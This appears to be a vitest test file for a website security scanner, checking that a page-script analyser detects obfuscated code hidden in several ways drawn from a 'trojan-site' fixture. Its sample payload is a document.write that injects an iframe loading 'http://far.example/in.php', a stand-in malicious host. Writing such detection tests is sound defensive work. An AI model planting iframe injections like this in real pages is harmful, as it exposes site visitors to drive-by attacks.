import { describe, expect, test } from 'vitest';
import { PageScripts } from '@/lib/scans/checks/scripts/page-scripts';
import { HIDING } from '../../../../fixtures/sites/trojan-site';

function actsOf(code: string) {
  const scripts = new PageScripts();
  scripts.add(code);
  return scripts.finish();
}

const WRITES = `document.write('<iframe src="http://far.example/in.php"></iframe>')`;

describe('code that is hidden', () => {
  test.each(Object.entries(HIDING))('by the way %s is read', (_way, hide) => {
    const { acts } = actsOf(hide(WRITES));
    expect(acts).toMatchObject([
      { kind: 'write', text: expect.stringContaining('http://far.example/in.php'), isMadeCode: true },
    ]);
  });
});
